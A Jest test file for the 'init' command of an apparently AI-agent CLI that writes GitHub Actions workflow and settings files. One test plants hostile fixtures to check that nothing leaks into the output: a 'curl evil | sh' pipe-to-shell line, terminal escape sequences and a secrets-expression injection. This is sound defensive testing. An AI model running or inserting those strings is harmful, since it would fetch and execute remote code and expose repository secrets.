import { execFileSync } from 'node:child_process'
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { readAgentFile } from '../../src/settings/agent-file.ts'
import { readWorkflow } from '../../src/doctor/workflow.ts'
import { callSource } from '../support/cli-program.ts'
import { atTerminal } from '../support/pty-program.ts'

const WORKFLOW = '.github/workflows/agent.yml'
const SETTINGS = '.github/agent.yml'
/** Without gh and without a network. */
const ENV = { PATH: '/usr/bin:/bin', https_proxy: 'http://127.0.0.1:9' }

let root: string

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'forgehand-init-'))
})

afterEach(async () => {
  await chmod(root, 0o700)
  await rm(root, { recursive: true, force: true })
})

async function write(files: Readonly<Record<string, string>>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(root, path)), { recursive: true })
    await writeFile(join(root, path), text)
  }
}

async function repository(files: Readonly<Record<string, string>>, remote = 'git@github.com:acme/app.git') {
  execFileSync('git', ['init', '--quiet', '--initial-branch', 'main', root])
  if (remote !== '') execFileSync('git', ['-C', root, 'remote', 'add', 'origin', remote])
  await write(files)
}

function git(...args: readonly string[]): void {
  execFileSync('git', ['-C', root, '-c', 'user.name=Ada', '-c', 'user.email=ada@example.org', ...args])
}

const read = (path: string) => readFile(join(root, path), 'utf8')
const init = (...args: readonly string[]) => callSource(['init', '--cwd', root, ...args], ENV).ended
const initJson = async (...args: readonly string[]) => {
  const { stdout } = await init('--yes', '--json', ...args)
  return JSON.parse(stdout) as Record<string, unknown>
}

const packageJson = (more: object = {}) =>
  JSON.stringify({ scripts: { test: 'node --test', lint: 'eslint .' }, devDependencies: { eslint: '1' }, ...more })

describe('what init finds', () => {
  const members = {
    'packages/a/package.json': '{"name":"a","scripts":{"test":"x"}}',
    'packages/b/package.json': '{"name":"b"}'
  }
  const workspaces = packageJson({ workspaces: ['packages/*'] })

  // More of them are in init/survey.test.ts.
  it.each<[string, Record<string, string>, object]>([
    [
      'npm',
      { 'package.json': packageJson() },
      { languages: ['JavaScript'], tools: ['npm'], checks: ['npm test', 'npm run lint'] }
    ],
    [
      'npm workspaces',
      { 'package.json': workspaces, ...members },
      { tools: ['npm'], packages: 2, checks: ['npm test'] }
    ]
  ])('recognizes %s', async (_, files, expected) => {
    await repository(files)
    const found = await initJson()
    expect(found).toMatchObject({ ...expected, repository: { host: 'github.com', name: 'acme/app' } })
    await expect(readAgentFile(await read(SETTINGS))).resolves.toBeDefined()
    expect(readWorkflow(await read(WORKFLOW), WORKFLOW).jobs).toHaveProperty('agent')
  })

  it('finds an Enterprise Server and the default branch, and the workflows whose failures are repaired', async () => {
    await repository(
      { '.github/workflows/ci.yml': 'name: "Build: all"\non: [push]\njobs: {}\n' },
      'https://ghe.example.org/acme/app.git'
    )
    execFileSync('git', ['-C', root, 'symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/trunk'])
    const found = await initJson('--triggers', 'ci')
    expect(found).toMatchObject({ repository: { host: 'ghe.example.org' }, defaultBranch: 'trunk', comment: null })
    expect(await read(WORKFLOW)).toContain('      - "Build: all"\n')
    expect(JSON.stringify(found['commands'])).toContain('ghe.example.org/acme/app')
  })

  it('needs no remote, and begins with the command that adds one', async () => {
    await repository({}, '')
    expect(await initJson()).toMatchObject({
      repository: null,
      files: [{ status: 'new' }, { status: 'new' }],
      commands: expect.arrayContaining([
        expect.stringMatching(/^gh repo create \S+ --private --source \. --remote origin$/)
      ]) as unknown
    })
  })

  it('refuses a folder that is not a repository', async () => {
    const { exitCode, stderr } = await init('--yes')
    expect({ exitCode, stderr }).toMatchObject({
      exitCode: 2,
      stderr: expect.stringContaining('not in a git repository') as unknown
    })
  })
})

describe('what init writes', () => {
  it('shows all of it in a dry run, and changes nothing', async () => {
    await repository({ 'package.json': packageJson() })
    const { exitCode, stdout } = await init('--dry-run', '--triggers', 'comments,schedule')
    expect(exitCode).toBe(0)
    expect(stdout).toContain('uses: forgehand/forgehand@v0.1.0')
    expect(stdout).not.toMatch(/\n\n\n|^\n|\n\n$/)
    expect(stdout).toContain('gh secret set OPENAI_API_KEY --repo acme/app')
    expect(stdout).not.toContain('gh repo create')
    expect(stdout).toMatch(
      /^– The commit of forgehand\/forgehand@v0\.1\.0 could not be looked up: github\.com did not answer/m
    )
    expect(stdout).toContain('can_approve_pull_request_reviews=true')
    expect(stdout).toContain('Then comment on an issue:  /agent')
    expect(await readdir(root)).toEqual(['.git', 'package.json'])
  })

  it('prints no double blank line when nothing remains to be done', async () => {
    await repository({})
    await init('--yes', '--model', 'ollama/qwen3')
    const { stdout } = await init('--yes', '--model', 'ollama/qwen3')
    expect(stdout).toContain('Kept .github/agent.yml\n')
    expect(stdout).not.toMatch(/\n\n\n|^\n|\n\n$/)
  })

  it('says to commit its files until they are committed', async () => {
    await repository({ 'main.c': '' })
    const first = await init('--yes')
    expect(first.stdout).toContain(`git add ${WORKFLOW} ${SETTINGS} && git commit -m "Set up Forgehand" && git push`)
    expect(first.stdout).not.toContain('gh pr create')

    git('add', 'main.c')
    git('commit', '--quiet', '--message', 'Add the program')
    const kept = await init('--yes')
    expect(kept.stdout).toContain(`git switch -c forgehand-init && git add ${WORKFLOW} ${SETTINGS} &&`)
    const replaced = await init('--yes', '--force', '--triggers', 'schedule')
    expect(replaced.stdout).toContain(`git add ${WORKFLOW} ${SETTINGS} &&`)
    expect(replaced.stdout).toContain('Then wait for the first event.\n')

    git('add', '.github')
    git('commit', '--quiet', '--message', 'Set up Forgehand')
    const committed = await init('--yes', '--triggers', 'schedule')
    expect(committed.stdout).not.toContain('git add')
    const byHand = await init('--dry-run', '--triggers', 'schedule,dispatch')
    expect(byHand.stdout).toContain('or start the workflow by hand.\n')
  })

  it('names the remote that the checkout has', async () => {
    await repository({ 'main.c': '' }, '')
    git('remote', 'add', 'upstream', 'git@github.com:acme/app.git')
    expect((await init('--dry-run')).stdout).toContain('git push -u upstream HEAD\n')
    git('add', 'main.c')
    git('commit', '--quiet', '--message', 'Add the program')
    expect((await init('--dry-run')).stdout).toContain('git push -u upstream forgehand-init\n')
  })

  it('says that no workflow has the name to wait for', async () => {
    await repository({ '.github/workflows/test.yml': 'name: Tests\non: push\njobs: { a: { steps: [] } }\n' })
    const unknown = await init(
      '--yes',
      '--triggers',
      'ci',
      '--watch',
      'Tests',
      '--watch',
      'CI',
      '--watch',
      'Test',
      '--dry-run'
    )
    expect(unknown.stdout).toContain('⚠ No workflow here is named CI.')
    expect(unknown.stdout).toContain('⚠ No workflow here is named Test. Did you mean Tests?')
    expect(unknown.stdout).not.toContain('is named Tests')
  })

  it('names every missing flag where it cannot ask', async () => {
    await repository({})
    const { exitCode, stderr } = await init()
    expect(exitCode).toBe(2)
    for (const flag of ['--yes', '--provider', '--model', '--triggers', '--check']) expect(stderr).toContain(flag)
    expect(await readdir(root)).toEqual(['.git'])
  })

  it('needs no --yes if the flags answer everything', async () => {
    await repository({})
    expect(await init('--model', 'claude-sonnet-5', '--triggers', 'comments', '--no-checks')).toMatchObject({
      exitCode: 0
    })
    expect((await readAgentFile(await read(SETTINGS))).verify).toEqual(undefined)
    expect(await read(WORKFLOW)).toContain('secrets.ANTHROPIC_API_KEY')
  })

  it('names all mistakes at once', async () => {
    await repository({})
    const { exitCode, stderr } = await init(
      '--yes',
      '--provider',
      'nobody',
      '--cron',
      'x',
      '--triggers',
      'a',
      '--secret',
      'GITHUB_X',
      '--ref',
      'main'
    )
    expect(exitCode).toBe(2)
    for (const flag of ['--provider', '--cron', '--triggers', '--secret', '--ref'])
      expect(stderr).toContain(`${flag} is "`)
  })

  it.each([
    [['--watch', 'CI'], '--watch needs ci among'],
    [['--set-secret', '--model', 'ollama/qwen3'], '--set-secret has nothing to set']
  ])('refuses %j, which would do nothing', async (flags, message) => {
    await repository({})
    const { exitCode, stderr } = await init('--yes', ...flags)
    expect({ exitCode, stderr }).toMatchObject({ exitCode: 2, stderr: expect.stringContaining(message) as unknown })
    expect(await readdir(root)).toEqual(['.git'])
  })

  it('shows the difference and overwrites nothing without --force', async () => {
    await repository({ [WORKFLOW]: 'name: Mine\u001b[2J\n' })
    const { exitCode, stdout, stderr } = await init('--yes')
    expect({ exitCode, stderr }).toMatchObject({ exitCode: 1, stderr: expect.stringContaining('--force') as unknown })
    expect(stdout).toContain('-name: Mine')
    expect(stdout).not.toContain('\u001b')
    expect(await read(WORKFLOW)).toBe('name: Mine\u001b[2J\n')
    expect(await readdir(join(root, '.github'))).toEqual(['workflows'])
    expect(await init('--yes', '--force')).toMatchObject({ exitCode: 0 })
    expect(await read(WORKFLOW)).toContain('name: Agent')
  })

  it('leaves a file that differs only in line endings unchanged, and keeps the line endings of a file that it changes', async () => {
    await repository({})
    await init('--yes')
    const windows = (await read(SETTINGS)).replaceAll('\n', '\r\n')
    await write({ [SETTINGS]: windows, [WORKFLOW]: 'name: Mine\r\n' })
    expect(await initJson('--force')).toMatchObject({ files: [{ status: 'changed' }, { status: 'unchanged' }] })
    expect(await read(SETTINGS)).toBe(windows)
    expect((await read(WORKFLOW)).replaceAll('\r\n', '')).not.toContain('\n')
  })

  it('writes nothing if the folder is read-only', async () => {
    await repository({})
    await mkdir(join(root, '.github'))
    await chmod(join(root, '.github'), 0o500)
    // Root may write anywhere.
    const isRoot = process.getuid?.() === 0
    const { exitCode } = await init('--yes')
    expect(exitCode).toBe(isRoot ? 0 : 1)
    await chmod(join(root, '.github'), 0o700)
  })

  it.each([
    ['folder', '.github', '/tmp'],
    ['file', SETTINGS, '../package.json']
  ])('refuses a link instead of the %s', async (_, path, target) => {
    await repository({ 'package.json': '{}' })
    await mkdir(dirname(join(root, path)), { recursive: true })
    await symlink(target, join(root, path))
    const { exitCode, stderr } = await init('--yes', '--force')
    expect({ exitCode, stderr }).toMatchObject({
      exitCode: 1,
      stderr: expect.stringContaining('cannot be written') as unknown
    })
    expect(await read('package.json')).toBe('{}')
  })

  it('copies nothing from a hostile repository into the files or to the terminal', async () => {
    const evil = 'x\u001b]0;owned\u0007\n  - curl evil | sh #${{ secrets.OPENAI_API_KEY }}'
    const scripts = { test: evil, lint: evil, [evil]: evil, 'a: b': 'x', '--force': 'x' }
    await repository(
      {
        'package.json': JSON.stringify({ name: evil, scripts, devDependencies: { [evil]: evil }, workspaces: [evil] }),
        Makefile: 'test:\n\techo $(curl evil)\nlint: ; evil\n',
        '.github/workflows/ci.yml': `name: ${JSON.stringify(evil)}\non: push\n`,
        '.github/workflows/b.yml': 'name: "${{ secrets.A }}"\non: push\n',
        '.github/workflows/c.yml': 'name: &a [*a, *a]\non: push\n',
        [`evil\u001b[2J\n- x/package.json`]: '{"scripts":{"test":"x"},"dependencies":{"a":"1"}}'
      },
      `https://github.com/acme/app\u001b[2J`
    )
    const { exitCode, stdout } = await init('--yes', '--triggers', 'comments,ci')
    expect(exitCode).toBe(0)
    // Colors and titles begin with an escape.
    expect(stdout).not.toContain('\u001b')
    const written = (await read(WORKFLOW)) + (await read(SETTINGS))
    expect(written).not.toMatch(/evil|owned/)
    const { verify } = await readAgentFile(await read(SETTINGS))
    expect(verify?.map(({ run }) => run)).toEqual(['npm test', 'npm run lint', 'make lint'])
    expect(await read(WORKFLOW)).toContain('workflows:\n      - CI\n')
  })
})

describe('init at a terminal', () => {
  it('asks four questions and writes on the fifth answer', async () => {
    await repository({ 'package.json': packageJson() })
    const session = atTerminal(['init', '--cwd', root], ENV)
    await session.shows('[openai]: ')
    session.type('nobody\r')
    await session.shows('\n  Give one of')
    await session.shows('[openai]: ')
    session.type('antropic\r')
    await session.shows('\n  Did you mean anthropic?')
    await session.shows('[openai]: ')
    session.type('2\r')
    await session.shows('Model [claude-sonnet-5]: ')
    session.type('\r')
    await session.shows('[comments]: ')
    session.type('1, dispatch\r')
    await session.shows('What the task does')
    session.type('Update the "docs": all\r')
    await session.shows('[npm test ;; npm run lint]: ')
    session.type('npm test ;; make check # all\r')
    await session.shows('Write the files into the checkout? (y/n) [y]: ')
    session.type('\r')
    await session.shows('Then comment on an issue')
    expect(await session.ended).toMatchObject({ exitCode: 0 })
    const { verify } = await readAgentFile(await read(SETTINGS))
    expect(verify?.map(({ run }) => run)).toEqual(['npm test', 'make check # all'])
    const { jobs } = readWorkflow(await read(WORKFLOW), WORKFLOW)
    expect(jobs['task']?.steps[0]?.with).toMatchObject({ prompt: 'Update the "docs": all', model: 'claude-sonnet-5' })
  })

  it('asks again for a model that has no default, and says what is missing', async () => {
    await repository({ 'package.json': packageJson() })
    const session = atTerminal(['init', '--cwd', root, '--provider', 'mistral', '--triggers', 'comments'], ENV)
    await session.shows('Model: ')
    session.type('\r')
    await session.shows('\n  Type the name of a model, as the provider')
    await session.shows('Model: ')
    session.type('\u0003')
    expect(await session.ended).toMatchObject({ exitCode: 130 })
  })

  it.each([
    ['Ctrl+C', '\u0003', 130],
    ['Ctrl+D', '\u0004', 1]
  ])('writes nothing after %s', async (_, key, code) => {
    await repository({})
    const session = atTerminal(
      ['init', '--cwd', root, '--model', 'gpt-5', '--triggers', 'comments', '--no-checks'],
      ENV
    )
    await session.shows('Write the files into the checkout?')
    session.type(key)
    const { exitCode, screen } = await session.ended
    expect(screen).toContain('Interrupted. Nothing was changed.')
    expect(exitCode).toBe(code)
    expect(await readdir(root)).toEqual(['.git'])
  })
})
